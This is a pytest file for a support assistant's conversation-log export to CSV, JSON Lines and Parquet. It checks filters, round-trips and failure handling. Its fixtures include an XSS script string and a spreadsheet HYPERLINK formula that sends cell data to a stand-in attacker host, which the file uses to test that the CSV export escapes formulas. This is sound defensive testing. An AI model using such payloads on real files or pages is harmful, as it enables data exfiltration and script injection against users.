"""Exports of the filtered conversations' turn records (CSV, JSON Lines, Parquet) and `assistant logs
export`, on SQLite and PostgreSQL: each format reads back to the same records, filters select whole
conversations, odd text survives, and a failed export leaves nothing behind."""

from __future__ import annotations

import csv
import json
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from sqlalchemy import update
from typer.testing import CliRunner

from assistant.cli import app
from assistant.store import SqlStore, export, make_engine
from assistant.store.export import COLUMNS, export_format, export_turns
from assistant.store.review import LogFilter
from assistant.store.tables import SessionRow, TurnRow
from cli_helpers import flat, runner  # noqa: F401 (fixture)
from dialog.events import BotAnswer, FeedbackGiven, UserMessage
from dialog.store import TurnRecord
from postgres_schemas import sqlite_or_postgres

database_url = sqlite_or_postgres("test_export")

FORMATS = ["csv", "jsonl", "parquet"]
WHEN = datetime(2024, 5, 1, 12, 0, tzinfo=timezone.utc)
SCRIPT = "<script>alert('x')</script> see [1] — «voilà»"
RETRIEVED = [{"chunk_id": "c1", "doc_id": "shipping/délais", "score": 0.8123}]
SOURCES = [{"n": 1, "doc_id": "shipping/délais", "title": "Délais de livraison", "heading": "Colis 📦", "cited": True, "url": None}]


@pytest.fixture
def store(database_url: str):
    store = SqlStore(make_engine(database_url))
    yield store
    store.engine.dispose()


def record(session_id: str, turn_no: int, user_text: str, **fields: Any) -> TurnRecord:
    values: dict[str, Any] = dict(intent="question", intent_confidence=0.75, action="answer", reason="kb", answer=f"answer {turn_no}")
    values.update(fields)
    return TurnRecord(session_id=session_id, user_text=user_text, turn_no=turn_no, **values)


def add(store: SqlStore, turn: TurnRecord, minutes: int) -> None:
    store.append(turn.session_id, [UserMessage(text=turn.user_text), BotAnswer(text=turn.answer)], turn)
    with store.engine.begin() as db:
        db.execute(
            update(TurnRow)
            .where(TurnRow.session_id == turn.session_id, TurnRow.turn_no == turn.turn_no)
            .values(created_at=WHEN + timedelta(minutes=minutes))
        )


def last_active(store: SqlStore, session_id: str, when: datetime) -> None:
    with store.engine.begin() as db:
        db.execute(update(SessionRow).where(SessionRow.id == session_id).values(updated_at=when))


@pytest.fixture
def log(store: SqlStore) -> dict[str, str]:
    """Three conversations, newest activity first: parcel (2 turns, handed off), odd (abstained), thanks (rated up)."""
    parcel, odd, thanks = (store.create_session(session_id=name) for name in ("s-parcel", "s-odd", "s-thanks"))
    add(store, record(parcel, 1, "Où est mon colis ? 📦", intent="where_is_order", answer=SCRIPT, query="où est mon colis",
                      retrieved=RETRIEVED, sources=SOURCES, model="smollm", index_version="2024-04-30",
                      timings_ms={"retrieval_ms": 3.5, "total_ms": 120.25}), 0)
    add(store, record(parcel, 2, "Je veux parler à quelqu'un", intent="human", action="handoff", reason="asked", handoff=True), 1)
    add(store, record(odd, 1, 'comma, "quotes",\nnew line and a tab\t=1+1', abstained=True, reason="best passage score 0.10 < 0.35",
                      retrieved=[{"chunk_id": "c9", "doc_id": "faq", "score": 0.1}], timings_ms={"total_ms": 50.0}), 2)
    add(store, record(thanks, 1, "thanks!", intent="thanks", action="small_talk", model="other-model"), 3)
    store.append(thanks, [FeedbackGiven(turn_no=1, rating=1)])
    last_active(store, parcel, datetime(2024, 5, 3, 10, tzinfo=timezone.utc))
    last_active(store, odd, datetime(2024, 5, 2, 10, tzinfo=timezone.utc))
    last_active(store, thanks, datetime(2024, 5, 1, 10, tzinfo=timezone.utc))
    return {"parcel": parcel, "odd": odd, "thanks": thanks}


EXPECTED = [  # in export order: the conversations by last activity, newest first; their turns in order
    {
        "session_id": "s-parcel", "turn_no": 1, "time": "2024-05-01T12:00:00+00:00", "user_text": "Où est mon colis ? 📦",
        "intent": "where_is_order", "intent_confidence": 0.75, "action": "answer", "reason": "kb", "query": "où est mon colis",
        "answer": SCRIPT, "top_score": 0.8123, "abstained": False, "handoff": False, "model": "smollm",
        "index_version": "2024-04-30", "latency_ms": 120.25, "error": None, "sources": SOURCES, "retrieved": RETRIEVED,
        "timings_ms": {"retrieval_ms": 3.5, "total_ms": 120.25},
    },
    {
        "session_id": "s-parcel", "turn_no": 2, "time": "2024-05-01T12:01:00+00:00", "user_text": "Je veux parler à quelqu'un",
        "intent": "human", "intent_confidence": 0.75, "action": "handoff", "reason": "asked", "query": None,
        "answer": "answer 2", "top_score": None, "abstained": False, "handoff": True, "model": None,
        "index_version": None, "latency_ms": None, "error": None, "sources": [], "retrieved": [], "timings_ms": {},
    },
    {
        "session_id": "s-odd", "turn_no": 1, "time": "2024-05-01T12:02:00+00:00",
        "user_text": 'comma, "quotes",\nnew line and a tab\t=1+1',
        "intent": "question", "intent_confidence": 0.75, "action": "answer", "reason": "best passage score 0.10 < 0.35",
        "query": None, "answer": "answer 1", "top_score": 0.1, "abstained": True, "handoff": False, "model": None,
        "index_version": None, "latency_ms": 50.0, "error": None, "sources": [],
        "retrieved": [{"chunk_id": "c9", "doc_id": "faq", "score": 0.1}], "timings_ms": {"total_ms": 50.0},
    },
    {
        "session_id": "s-thanks", "turn_no": 1, "time": "2024-05-01T12:03:00+00:00", "user_text": "thanks!",
        "intent": "thanks", "intent_confidence": 0.75, "action": "small_talk", "reason": "kb", "query": None,
        "answer": "answer 1", "top_score": None, "abstained": False, "handoff": False, "model": "other-model",
        "index_version": None, "latency_ms": None, "error": None, "sources": [], "retrieved": [], "timings_ms": {},
    },
]
NO_VERDICTS = {
    "customer_rating": None, "customer_comment": None, "review_verdict": None, "review_correct_intent": None,
    "review_notes": None, "reviewer": None, "labels": [], "staff": [],
}
EXPECTED = [{**row, **NO_VERDICTS} for row in EXPECTED]
EXPECTED[3]["customer_rating"] = "up"  # s-thanks: the customer's thumbs up


def read_back(path: Path, fmt: str) -> list[dict[str, Any]]:
    """The exported rows as Python values, whatever the format (CSV's text parsed by column)."""
    if fmt == "jsonl":
        lines = path.read_text(encoding="utf-8").splitlines()
        return [json.loads(line) for line in lines]
    if fmt == "parquet":
        rows = pq.read_table(path).to_pylist()
        for row in rows:
            row["time"] = row["time"].isoformat()
            for name in ("sources", "retrieved", "timings_ms", "labels", "staff"):
                row[name] = json.loads(row[name])
        return rows
    with path.open(encoding="utf-8", newline="") as file:
        reader = csv.DictReader(file)
        assert reader.fieldnames == COLUMNS
        rows = list(reader)
    parse = {
        "turn_no": int, "intent_confidence": float, "top_score": float, "latency_ms": float,
        "abstained": lambda v: {"true": True, "false": False}[v], "handoff": lambda v: {"true": True, "false": False}[v],
        "sources": json.loads, "retrieved": json.loads, "timings_ms": json.loads, "labels": json.loads,
        "staff": json.loads,
    }
    return [{name: (parse.get(name, str)(value) if value != "" else None) for name, value in row.items()} for row in rows]


def sessions_of(rows: list[dict[str, Any]]) -> list[str]:
    return list(dict.fromkeys(row["session_id"] for row in rows))


# -- export_turns --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_each_format_round_trips_every_field(store: SqlStore, log: dict[str, str], tmp_path: Path, fmt: str) -> None:
    path = tmp_path / f"turns.{fmt}"

    rows = export_turns(store.engine, LogFilter(), path)

    assert rows == 4
    assert read_back(path, fmt) == EXPECTED
    assert [p.name for p in tmp_path.iterdir() if p.name != "db"] == [path.name]  # no temporary file left


def test_jsonl_keeps_nested_fields_as_objects_and_csv_as_json_text(store: SqlStore, log: dict[str, str], tmp_path: Path) -> None:
    export_turns(store.engine, LogFilter(), tmp_path / "t.jsonl")
    export_turns(store.engine, LogFilter(), tmp_path / "t.csv")

    first_line = (tmp_path / "t.jsonl").read_text(encoding="utf-8").splitlines()[0]
    assert '"sources": [{' in first_line and SCRIPT in first_line  # UTF-8 as is, no \u escapes, no HTML escaping
    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as file:
        first = next(csv.DictReader(file))
    assert first["sources"].startswith('[{"cited": true, "doc_id": "shipping/délais"')
    assert first["answer"] == SCRIPT and first["error"] == ""


def test_parquet_column_types(store: SqlStore, log: dict[str, str], tmp_path: Path) -> None:
    export_turns(store.engine, LogFilter(), tmp_path / "t.parquet")

    schema = pq.read_schema(tmp_path / "t.parquet")
    types = {name: str(schema.field(name).type) for name in schema.names}
    assert schema.names == COLUMNS
    assert types["time"] == "timestamp[us, tz=UTC]" and types["turn_no"] == "int64"
    assert types["latency_ms"] == "double" and types["abstained"] == "bool" and types["sources"] == "string"


@pytest.mark.parametrize(
    ("log_filter", "sessions"),
    [
        (LogFilter(intent="where_is_order"), ["s-parcel"]),  # the whole conversation, both its turns
        (LogFilter(handoff=True), ["s-parcel"]),
        (LogFilter(handoff=False), ["s-odd", "s-thanks"]),
        (LogFilter(abstained=True), ["s-odd"]),
        (LogFilter(feedback="up"), ["s-thanks"]),
        (LogFilter(feedback="none"), ["s-parcel", "s-odd"]),
        (LogFilter(model="other-model"), ["s-thanks"]),
        (LogFilter(text="colis"), ["s-parcel"]),
        (LogFilter(text="quotes"), ["s-odd"]),
        (LogFilter(since=datetime(2024, 5, 2, tzinfo=timezone.utc)), ["s-parcel", "s-odd"]),
        (LogFilter(until=datetime(2024, 5, 2, tzinfo=timezone.utc)), ["s-thanks"]),
        (LogFilter(intent="nothing-like-it"), []),
    ],
)
def test_filters_select_whole_conversations(
    store: SqlStore, log: dict[str, str], tmp_path: Path, log_filter: LogFilter, sessions: list[str]
) -> None:
    path = tmp_path / "t.jsonl"

    count = export_turns(store.engine, log_filter, path)

    rows = read_back(path, "jsonl")
    assert sessions_of(rows) == sessions
    assert count == len(rows) == sum(1 for row in EXPECTED if row["session_id"] in sessions)


def give_verdicts(store: SqlStore, log: dict[str, str]) -> None:
    """The parcel answer: thumbs down with a comment from the customer, labelled wrong by two reviewers
    (ana twice: her later labels count), thumbs up by a third who gave no labels; its handoff turn unjudged."""
    parcel = log["parcel"]
    store.append(parcel, [FeedbackGiven(turn_no=1, rating=-1, comment="=wrong parcel, not mine")])
    store.append(parcel, [FeedbackGiven(turn_no=1, comment="still waiting")])  # a comment alone keeps the thumbs down
    store.annotate(parcel, 1, "ana", answer_correct=True, notes="first look")
    store.annotate(parcel, 1, "ana", answer_correct=False, correct_intent="refund", notes="asked about a refund")
    store.append(parcel, [FeedbackGiven(turn_no=1, rating=-1, source="reviewer", author="ana")])
    store.annotate(parcel, 1, "bo", answer_correct=False, notes="cites the wrong article")
    store.append(parcel, [FeedbackGiven(turn_no=1, rating=1, source="reviewer", author="cy")])


@pytest.mark.parametrize("fmt", FORMATS)
def test_each_turn_carries_the_customers_feedback_and_the_reviewers_labels(
    store: SqlStore, log: dict[str, str], tmp_path: Path, fmt: str
) -> None:
    give_verdicts(store, log)
    path = tmp_path / f"turns.{fmt}"

    export_turns(store.engine, LogFilter(), path)

    rows = read_back(path, fmt)
    judged, handoff = rows[0], rows[1]
    comment = "'=wrong parcel, not mine\nstill waiting" if fmt == "csv" else "=wrong parcel, not mine\nstill waiting"
    assert (judged["customer_rating"], judged["customer_comment"]) == ("down", comment)
    assert (judged["review_verdict"], judged["review_correct_intent"], judged["review_notes"], judged["reviewer"]) == (
        "wrong", None, "cites the wrong article", "bo"
    )
    labels = [{key: value for key, value in label.items() if key != "time"} for label in judged["labels"]]
    assert labels == [
        {"reviewer": "ana", "verdict": "wrong", "correct_intent": "refund", "notes": "asked about a refund", "rating": "down"},
        {"reviewer": "bo", "verdict": "wrong", "correct_intent": None, "notes": "cites the wrong article", "rating": None},
        {"reviewer": "cy", "verdict": None, "correct_intent": None, "notes": None, "rating": "up"},
    ]
    assert judged["labels"][0]["time"].endswith("+00:00")
    assert {key: handoff[key] for key in NO_VERDICTS} == NO_VERDICTS  # the verdicts stay on their own turn
    assert [row[name] for row in rows for name in COLUMNS[:20]] == [row[name] for row in EXPECTED for name in COLUMNS[:20]]


def test_the_verdict_columns_come_after_the_turn_records_columns(store: SqlStore, log: dict[str, str], tmp_path: Path) -> None:
    export_turns(store.engine, LogFilter(), tmp_path / "t.csv")

    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as file:
        header = next(csv.reader(file))
    assert header[:20] == [
        "session_id", "turn_no", "time", "user_text", "intent", "intent_confidence", "action", "reason", "query", "answer",
        "top_score", "abstained", "handoff", "model", "index_version", "latency_ms", "error", "sources", "retrieved", "timings_ms",
    ]
    assert header[20:27] == ["customer_rating", "customer_comment", "review_verdict", "review_correct_intent", "review_notes", "reviewer", "labels"]
    assert header[27:] == ["staff"]  # what staff did after the turn, added last


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_empty_export_is_still_a_readable_file(store: SqlStore, tmp_path: Path, fmt: str) -> None:
    path = tmp_path / f"none.{fmt}"

    assert export_turns(store.engine, LogFilter(), path) == 0
    assert read_back(path, fmt) == []


def test_rows_are_written_batch_by_batch(store: SqlStore, log: dict[str, str], tmp_path: Path) -> None:
    written: list[int] = []
    path = tmp_path / "t.parquet"

    export_turns(store.engine, LogFilter(), path, batch_rows=3, progress=written.append)

    assert written == [3, 4]
    assert pq.ParquetFile(path).num_row_groups == 2
    assert read_back(path, "parquet") == EXPECTED


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_failed_export_leaves_nothing_and_keeps_the_old_file(store: SqlStore, log: dict[str, str], tmp_path: Path, fmt: str) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    path = folder / f"t.{fmt}"
    path.write_text("the previous export")

    def interrupted(rows: int) -> None:
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError, match="disk full"):
        export_turns(store.engine, LogFilter(), path, batch_rows=1, progress=interrupted)

    assert [p.name for p in folder.iterdir()] == [path.name]
    assert path.read_text() == "the previous export"


def test_the_format_comes_from_the_suffix_unless_given(tmp_path: Path) -> None:
    assert export_format(Path("a.CSV")) == "csv" and export_format(Path("a.ndjson")) == "jsonl"
    assert export_format(Path("a.pq")) == "parquet" and export_format(Path("a.txt"), "jsonl") == "jsonl"
    with pytest.raises(ValueError, match="cannot tell the export format from the file name 'a.txt'"):
        export_format(Path("a.txt"))
    with pytest.raises(ValueError, match="unknown export format 'xml'"):
        export_format(Path("a.csv"), "xml")


def test_export_with_a_format_that_the_suffix_does_not_name(store: SqlStore, log: dict[str, str], tmp_path: Path) -> None:
    path = tmp_path / "turns.data"

    export_turns(store.engine, LogFilter(abstained=True), path, fmt="parquet")

    assert read_back(path, "parquet") == EXPECTED[2:3]


def test_export_refuses_a_folder_or_a_missing_folder(store: SqlStore, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="is a folder"):
        export_turns(store.engine, LogFilter(), tmp_path, fmt="csv")
    with pytest.raises(FileNotFoundError, match="does not exist"):
        export_turns(store.engine, LogFilter(), tmp_path / "missing" / "t.csv")


# -- the command ---------------------------------------------------------------------------------------------------


def export_command(runner: CliRunner, url: str, *args: str):  # type: ignore[no-untyped-def]
    return runner.invoke(app, ["--database-url", url, "logs", "export", *args])


@pytest.mark.parametrize("fmt", FORMATS)
def test_command_exports_every_format(runner: CliRunner, log: dict[str, str], database_url: str, tmp_path: Path, fmt: str) -> None:
    path = tmp_path / f"all.{fmt}"

    result = export_command(runner, database_url, str(path))

    assert result.exit_code == 0, result.output
    assert f"Exported 4 turn record(s) to {path} ({fmt})." in flat(result.stdout)
    assert read_back(path, fmt) == EXPECTED


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_command_exports_the_verdicts(runner: CliRunner, log: dict[str, str], store: SqlStore, database_url: str, tmp_path: Path, fmt: str) -> None:
    give_verdicts(store, log)
    path = tmp_path / f"reviewed.{fmt}"

    result = export_command(runner, database_url, str(path), "--intent", "where_is_order")

    assert result.exit_code == 0, result.output
    judged = read_back(path, fmt)[0]
    assert (judged["customer_rating"], judged["review_verdict"], judged["reviewer"]) == ("down", "wrong", "bo")
    assert [label["reviewer"] for label in judged["labels"]] == ["ana", "bo", "cy"]


@pytest.mark.parametrize(
    ("args", "sessions"),
    [
        (["--intent", "where_is_order"], ["s-parcel"]),
        (["--handoff"], ["s-parcel"]),
        (["--no-handoff"], ["s-odd", "s-thanks"]),
        (["--abstained"], ["s-odd"]),
        (["--no-abstained"], ["s-parcel", "s-thanks"]),
        (["--feedback", "up"], ["s-thanks"]),
        (["--feedback", "none"], ["s-parcel", "s-odd"]),
        (["--search", "colis"], ["s-parcel"]),
        (["--model", "smollm"], ["s-parcel"]),  # the last model that answered: the handoff after it had none
        (["--model", "nope"], []),
        (["--model", "other-model"], ["s-thanks"]),
        (["--max-top-score", "0.5"], ["s-odd"]),
        (["--since", "2024-05-02"], ["s-parcel", "s-odd"]),
        (["--until", "2024-05-02"], ["s-odd", "s-thanks"]),  # a whole day: last active 2024-05-02 10:00 is in
        (["--since", "2024-05-02", "--until", "2024-05-02"], ["s-odd"]),
        (["--no-handoff", "--feedback", "none"], ["s-odd"]),
        (["--until", "9999-12-31"], ["s-parcel", "s-odd", "s-thanks"]),  # the last day there is: no end (was an OverflowError)
    ],
)
def test_command_filters(
    runner: CliRunner, log: dict[str, str], database_url: str, tmp_path: Path, args: list[str], sessions: list[str]
) -> None:
    path = tmp_path / "out.jsonl"

    result = export_command(runner, database_url, str(path), *args)

    assert result.exit_code == 0, result.output
    assert sessions_of(read_back(path, "jsonl")) == sessions
    if not sessions:
        assert "Exported 0 turn record(s)" in result.stdout and "(no conversation matches the filters)" in result.stdout


def test_command_filters_on_not_helped_apart_from_declined(
    runner: CliRunner, log: dict[str, str], store: SqlStore, database_url: str, tmp_path: Path
) -> None:
    """--not-helped picks the conversations where the customer said an answer did not help (stored as an
    abstained turn of intent not_helped), as the review page's Not helped filter; --abstained keeps only real declines."""
    add(store, record(log["thanks"], 2, "that didn't help", intent="not_helped", action="small_talk", abstained=True), 4)
    path = tmp_path / "out.jsonl"

    chosen = {}
    for option in ("--not-helped", "--no-not-helped", "--abstained"):
        result = export_command(runner, database_url, str(path), option, "--force")
        assert result.exit_code == 0, result.output
        chosen[option] = sessions_of(read_back(path, "jsonl"))

    assert chosen == {"--not-helped": ["s-thanks"], "--no-not-helped": ["s-parcel", "s-odd"], "--abstained": ["s-odd"]}


def test_command_format_option_overrides_the_suffix(runner: CliRunner, log: dict[str, str], database_url: str, tmp_path: Path) -> None:
    path = tmp_path / "export.out"

    result = export_command(runner, database_url, str(path), "--format", "parquet", "--abstained")

    assert result.exit_code == 0, result.output
    assert "Exported 1 turn record(s)" in result.stdout and "(parquet)" in result.stdout
    assert read_back(path, "parquet") == EXPECTED[2:3]


def test_command_on_the_default_database(runner: CliRunner, isolated: Path, tmp_path: Path) -> None:
    missing = runner.invoke(app, ["logs", "export", str(tmp_path / "x.csv")])  # a typo'd path must not give an empty database
    assert missing.exit_code == 1 and f"No database at {isolated / 'assistant.db'}" in flat(missing.stderr)
    assert not (isolated / "assistant.db").exists() and not (tmp_path / "x.csv").exists()
    assert runner.invoke(app, ["db", "upgrade"]).exit_code == 0

    result = runner.invoke(app, ["logs", "export", str(tmp_path / "x.csv")])

    assert result.exit_code == 0, result.output
    assert "Exported 0 turn record(s)" in result.stdout
    assert read_back(tmp_path / "x.csv", "csv") == []


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (["out.txt"], 1, "Error: cannot tell the export format from the file name 'out.txt'"),
        (["missing/out.csv"], 1, "Error: the folder missing does not exist"),
        (["."], 1, "Error: . is a folder"),
        (["out.csv", "--since", "2024-13-01"], 2, "Invalid value for '--since'"),
        (["out.csv", "--since", "2024-05-03", "--until", "2024-05-01"], 1, "Error: --until 2024-05-01 is before --since 2024-05-03"),
        (["out.csv", "--feedback", "maybe"], 2, "Invalid value for '--feedback'"),
        (["out.csv", "--format", "xml"], 2, "Invalid value for '--format'"),
    ],
)
def test_command_refuses_bad_arguments_in_one_line(
    runner: CliRunner, isolated: Path, args: list[str], code: int, message: str
) -> None:
    result = runner.invoke(app, ["logs", "export", *args])

    assert result.exit_code == code, result.output
    assert message in flat(result.output)
    assert "Traceback" not in result.output
    assert not (isolated / "assistant.db").exists()  # refused before the database is opened
    assert not Path("out.csv").exists()


def test_command_reports_a_write_failure_in_one_line(
    runner: CliRunner, log: dict[str, str], database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def disk_full(source: Path, target: Path) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export.os, "replace", disk_full)

    result = export_command(runner, database_url, str(tmp_path / "t.csv"))

    assert result.exit_code == 1
    assert f"Error: cannot write {tmp_path / 't.csv'}: No space left on device" in flat(result.stderr)
    assert "Traceback" not in result.output
    assert not [p for p in tmp_path.iterdir() if p.suffix in (".csv", ".tmp")]


def test_command_help_explains_the_filters(runner: CliRunner) -> None:
    result = runner.invoke(app, ["logs", "export", "--help"])

    assert result.exit_code == 0
    text = flat(result.stdout)
    assert "select whole conversations" in text and "one row per turn" in text
    options = ("--format", "--since", "--until", "--intent", "--handoff", "--no-handoff", "--abstained", "--feedback", "--search")
    for option in (*options, "--model"):
        assert option in text


def test_csv_keeps_a_formula_the_customer_typed_as_text(store: SqlStore, tmp_path: Path) -> None:
    session_id = store.create_session()
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    add(store, record(session_id, 1, formula, answer="-1 is not an answer", reason="@kb"), minutes=0)

    export_turns(store.engine, LogFilter(), tmp_path / "out.csv")
    export_turns(store.engine, LogFilter(), tmp_path / "out.jsonl")

    [row] = read_back(tmp_path / "out.csv", "csv")
    assert (row["user_text"], row["answer"], row["reason"]) == ("'" + formula, "'-1 is not an answer", "'@kb")
    assert row["intent"] == "question" and row["turn_no"] == 1
    [as_stored] = read_back(tmp_path / "out.jsonl", "jsonl")
    assert as_stored["user_text"] == formula
